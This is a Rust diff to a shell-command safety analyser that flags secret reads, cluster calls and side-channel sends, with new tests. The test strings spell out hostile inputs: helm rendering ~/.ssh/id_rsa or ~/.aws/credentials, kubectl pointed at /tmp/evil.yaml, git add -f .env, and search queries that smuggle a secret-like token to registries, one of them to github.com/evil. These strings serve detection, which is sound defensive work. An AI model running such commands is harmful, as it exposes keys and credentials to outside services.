@@ -117,6 +117,12 @@ pub struct Analysis {
     /// (`https://u:ghp_…@github.com/…`): one effect, one verdict — allowed
     /// alone, a sensitive read (`remote_url`) for the read-then-send chains.
     pub url_read: bool,
+    /// Round 26 (attack24/sidechan): a client that sends its words to a
+    /// service and prints the answer (`gh issue list --search …`, `cargo
+    /// search …`, `docker search …`, `go list -m …`): read-only alone,
+    /// and a send for the read-then-send chains — after a secret read the
+    /// words may be the secret.
+    pub asks_service: bool,
     /// Round 23: files whose whole new text (or appended lines) the line
     /// spells — `echo`/`printf`/a here-doc redirected into it, `tee` of a
     /// here-doc, a patch's hunks — with that text: a settings file
@@ -1852,7 +1858,10 @@ impl C {
                 && platform::decide(p, &texts).is_some() =>
             {
                 match platform::decide(p, &texts) {
-                    Some(platform::Verdict::Read) => Kind::ReadOnly,
+                    Some(platform::Verdict::Read) => {
+                        self.a.asks_service = true;
+                        Kind::ReadOnly
+                    }
                     Some(platform::Verdict::Elsewhere) => Kind::Unknown,
                     _ => self.build_in("."),
                 }
@@ -4382,6 +4391,9 @@ impl C {
             }
             "tree" | "metadata" | "version" | "--version" | "-V" | "help" | "verify-project"
             | "locate-project" | "pkgid" | "read-manifest" | "search" | "info" | "" => {
+                if matches!(sub, "search" | "info") {
+                    self.a.asks_service = true;
+                }
                 Kind::ReadOnly
             }
             // Round 20: `cargo add serde@1 --features derive` writes the
@@ -4705,6 +4717,10 @@ impl C {
                 if sub == "env" && texts.iter().any(|x| *x == "-w" || *x == "-u") {
                     return Kind::Privileged;
                 }
+                // `go list -m -versions MODULE` asks the module proxy
+                if sub == "list" && texts.contains(&"-m") {
+                    self.a.asks_service = true;
+                }
                 Kind::ReadOnly
             }
             ("go", "mod") => match sub2 {
@@ -4831,6 +4847,10 @@ impl C {
                         matches!(*x, "-l" | "-L" | "-s" | "-qa" | "-q" | "--list" | "-S")
                     }) =>
             {
+                // a registry searched (`gem search WORD`, `brew info WORD`)
+                if matches!(s, "search" | "info" | "show" | "-Ss") {
+                    self.a.asks_service = true;
+                }
                 Kind::ReadOnly
             }
             _ => Kind::Install,
@@ -5309,6 +5329,15 @@ impl C {
                         if let Some(d) = d {
                             self.write(&format!("{}/.", d.trim_end_matches('/')));
                         }
+                    }
+                }
+                // Round 26 (attack24/sidechan): `git add -f .env` copies
+                // the file's text into the repository, where a commit and
+                // an allowed push carry it to the remote: the paths added
+                // are read (a secret among them is a secret read)
+                if sub == "add" {
+                    for p in ops.iter().filter(|p| !p.starts_with(':')) {
+                        self.read(p);
                     }
                 }
                 // `git commit -F ~/.aws/credentials`: a message read from a
@@ -5974,8 +6003,13 @@ impl C {
                 self.a.env_secret = true;
                 Kind::ReadOnly
             }
+            // `docker search WORD` sends WORD to the registry
+            "search" => {
+                self.a.asks_service = true;
+                Kind::ReadOnly
+            }
             "ps" | "images" | "logs" | "version" | "info" | "stats" | "top" | "port" | "diff"
-            | "history" | "events" | "search" | "" => Kind::ReadOnly,
+            | "history" | "events" | "" => Kind::ReadOnly,
             "rm" | "rmi" | "prune" | "kill" => Kind::Destructive,
             "system" | "volume" | "container" | "image" | "network" | "builder" | "buildx"
                 if rest.iter().any(|x| matches!(*x, "prune" | "rm" | "remove")) =>
@@ -5996,6 +6030,29 @@ impl C {
                     .copied()
                     .unwrap_or("");
                 match verb {
+                    // Round 26 (attack24/cloud): `docker compose config`
+                    // prints the file with `.env` and the environment
+                    // interpolated — every `${DB_PASSWORD}` as its value —
+                    // the reading `docker inspect` is; only the names
+                    // (`--services`, `--volumes`, `--profiles`,
+                    // `--images`, `-q`) print none
+                    "config"
+                        if !rest.iter().any(|x| {
+                            matches!(
+                                *x,
+                                "--services"
+                                    | "--volumes"
+                                    | "--profiles"
+                                    | "--images"
+                                    | "--networks"
+                                    | "-q"
+                                    | "--quiet"
+                            )
+                        }) =>
+                    {
+                        self.a.env_secret = true;
+                        Kind::ReadOnly
+                    }
                     "ps" | "logs" | "config" | "ls" | "images" | "top" | "version" => {
                         Kind::ReadOnly
                     }
@@ -6052,6 +6109,53 @@ impl C {
                 self.read(f);
             }
         }
+        // Round 26 (attack24/cloud): the files helm reads by option — values
+        // (`-f`/`--values`, a comma list), `--set-file KEY=PATH[,…]`, the
+        // TLS files of a repository or a cluster — are read, and a value
+        // or a `--set-file` is rendered into what `helm template` prints
+        // (`helm template x ./chart --set-file k=/home/dev/.ssh/id_rsa` is
+        // `cat` of the key)
+        if p == "helm" {
+            const FILES: &[&str] = &[
+                "-f",
+                "--values",
+                "--set-file",
+                "--ca-file",
+                "--cert-file",
+                "--key-file",
+                "--kube-ca-file",
+                "--repo-ca-file",
+                "--repo-cert-file",
+                "--repo-key-file",
+                "--registry-config",
+                "--repository-config",
+            ];
+            for (n, x) in texts.iter().enumerate() {
+                let (name, value) = match x.split_once('=') {
+                    Some((a, b)) if a.starts_with("--") => (a, Some(b)),
+                    _ => match x.strip_prefix("-f") {
+                        Some(v) if !v.is_empty() && !x.starts_with("--") => {
+                            ("-f", Some(v.strip_prefix('=').unwrap_or(v)))
+                        }
+                        _ => (*x, texts.get(n + 1).copied()),
+                    },
+                };
+                if !FILES.contains(&name) {
+                    continue;
+                }
+                let Some(v) = value else { continue };
+                for item in v.split(',') {
+                    let f = if name == "--set-file" {
+                        item.split_once('=').map_or(item, |(_, f)| f)
+                    } else {
+                        item
+                    };
+                    if !f.is_empty() && !f.contains("://") {
+                        self.read(f);
+                    }
+                }
+            }
+        }
         let mut words: Vec<&str> = Vec::new();
         let mut n = 0;
         while let Some(x) = texts.get(n) {
@@ -6095,6 +6199,25 @@ impl C {
                 .any(|x| x.contains("--raw") || x.contains("--flatten"))
         {
             self.a.reads.push("~/.kube/config".into());
+        }
+        // Round 26 (attack24/cloud): a cluster named on the line
+        // (`--kubeconfig /tmp/k.yaml`, `--server`, `-s`) is asked even by
+        // `kubectl version` (its server half), and a kubeconfig's
+        // `users[].user.exec` runs its program first; `helm template
+        // --validate` asks the cluster too. Only `kubectl version
+        // --client` and a template without `--validate` stay local.
+        let names_cluster = texts.iter().any(|x| {
+            x.starts_with("--kubeconfig")
+                || x.starts_with("--server")
+                || *x == "-s"
+                || x.starts_with("--token")
+        });
+        if (p == "kubectl" && sub == "version" && names_cluster && !texts.contains(&"--client"))
+            || (p == "helm"
+                && matches!(sub, "template" | "lint")
+                && texts.iter().any(|x| x.starts_with("--validate")))
+        {
+            return Kind::Network;
         }
         match sub {
             "delete" | "drain" | "uninstall" | "cordon" | "taint" | "scale" | "rollback" => {
@@ -6148,9 +6271,38 @@ impl C {
         if texts.iter().any(|x| *x == "-destroy" || *x == "--destroy") {
             return Kind::Destructive;
         }
+        // Round 26 (attack24/cloud): `-chdir=DIR` runs every subcommand in
+        // DIR — its `.terraform` plugins loaded by `validate` and
+        // `providers schema`, its state read by `output` — so a reading
+        // there is a build of DIR (`build_in`: unknown in scratch space,
+        // a write outside the workspace elsewhere); `providers mirror DIR`
+        // and `providers lock` download from the registry (mirror writes
+        // DIR); `fmt PATH…` rewrites PATH, not only the folder it runs in.
+        let chdir = texts.iter().find_map(|x| x.strip_prefix("-chdir="));
+        if matches!(words.get(..2), Some([_, "mirror" | "lock"])) && sub == "providers" {
+            if words.get(1) == Some(&"mirror") {
+                for w in words.iter().skip(2) {
+                    self.write(w);
+                }
+            }
+            return Kind::Network;
+        }
+        let k = self.terraform_sub(p, sub, &words);
+        match chdir {
+            Some(dir) if matches!(k, Kind::ReadOnly | Kind::Write) => k.max(self.build_in(dir)),
+            _ => k,
+        }
+    }
+
+    fn terraform_sub(&mut self, p: &str, sub: &str, words: &[&str]) -> Kind {
         match (p, sub) {
             (_, "destroy" | "delete" | "remove" | "rm") => Kind::Destructive,
-            (_, "fmt" | "format") => self.build_in("."),
+            (_, "fmt" | "format") => {
+                for w in words.iter().skip(1).filter(|w| **w != "-") {
+                    self.write(w);
+                }
+                self.build_in(".")
+            }
             (
                 _,
                 "validate" | "version" | "providers" | "graph" | "show" | "output" | "-version"
@@ -8770,6 +8922,102 @@ mod tests {
             kind("for i in 1 2; do echo $i; done > out.txt"),
             "destructive"
         );
+    }
+
+    // Round 26 (attack24/cloud): cloud CLIs' reads that were not reads.
+    #[test]
+    fn cloud_reads_that_read_keys_ask_a_cluster_or_run_code_elsewhere() {
+        let ws = Some("/home/dev/proj");
+        let at = |c: &str| analyze_in(c, Some("/home/dev/proj"));
+        // helm renders a file named by option into what it prints: `cat`
+        for c in [
+            "helm template x ./chart --set-file cfg=/home/dev/.ssh/id_rsa",
+            "helm template x ./chart -f ~/.aws/credentials",
+            "helm template x ./chart --values=a.yaml,/home/dev/.kube/config",
+            "helm lint ./chart -f/home/dev/.ssh/id_ed25519",
+            "helm lint ./chart -f=/home/dev/.ssh/id_ed25519",
+            "helm template x . --set-file=k=~/.ssh/id_rsa",
+            "helm template x ./chart --repo-ca-file ~/.ssh/id_rsa",
+        ] {
+            assert_eq!(at(c).sensitive_read(ws), "outside", "{c}");
+        }
+        assert_eq!(
+            at("helm template x ./chart --set-file k=.env").sensitive_read(ws),
+            "workspace"
+        );
+        // a cluster named on the line is asked, and its kubeconfig may run a program
+        for c in [
+            "kubectl --kubeconfig /tmp/evil.yaml version",
+            "kubectl version --server https://10.0.0.1:6443",
+            "helm template x ./chart --validate --kubeconfig /tmp/evil.yaml",
+            "helm template x ./chart --kube-context prod --validate",
+        ] {
+            assert_eq!(at(c).kind(), Kind::Network, "{c}");
+        }
+        // terraform -chdir: DIR's plugins and state
+        assert_eq!(
+            at("terraform -chdir=/tmp/evil validate").kind(),
+            Kind::Unknown
+        );
+        assert!(at("terraform -chdir=../other-team output").writes_outside(ws));
+        assert_eq!(
+            at("terraform providers mirror /home/dev/.local/bin").kind(),
+            Kind::Network
+        );
+        assert_eq!(
+            at("terraform providers lock -fs-mirror=/tmp/x").kind(),
+            Kind::Network
+        );
+        assert!(at("terraform fmt -recursive /home/dev").writes_outside(ws));
+        // docker compose config prints .env interpolated
+        assert_ne!(at("docker compose config").sensitive_read(ws), "none");
+        // git add copies the file into what a push sends
+        assert_eq!(
+            at("git add -f .env && git commit -m wip").sensitive_read(ws),
+            "workspace"
+        );
+        // everyday: unchanged
+        for c in [
+            "helm template api ./chart -f chart/values-dev.yaml",
+            "helm lint ./chart",
+            "kubectl version --client",
+            "terraform validate",
+            "terraform -chdir=infra/dev validate",
+            "terraform fmt -check -recursive",
+            "docker compose config --services",
+            "git add src/main.rs",
+        ] {
+            let a = at(c);
+            assert!(matches!(a.kind(), Kind::ReadOnly | Kind::Write), "{c}");
+            assert_eq!(a.sensitive_read(ws), "none", "{c}");
+            assert!(!a.writes_outside(ws), "{c}");
+        }
+    }
+
+    // Round 26 (attack24/sidechan): clients that send their words out
+    #[test]
+    fn clients_that_send_their_words_to_a_service() {
+        for c in [
+            "gh issue list --search 'Vq7mR2kx9Lp'",
+            "gh pr list --label x -R acme/app",
+            "cargo search Vq7mR2kx9Lp",
+            "gem search Vq7mR2kx9Lp",
+            "docker search Vq7mR2kx9Lp",
+            "go list -m -versions github.com/evil/Vq7mR2kx9Lp",
+        ] {
+            let a = analyze(c);
+            assert_eq!(a.kind(), Kind::ReadOnly, "{c}");
+            assert!(a.asks_service, "{c}");
+        }
+        for c in [
+            "git status",
+            "cargo test",
+            "go list ./...",
+            "docker ps",
+            "ls",
+        ] {
+            assert!(!analyze(c).asks_service, "{c}");
+        }
     }
 
     #[test]
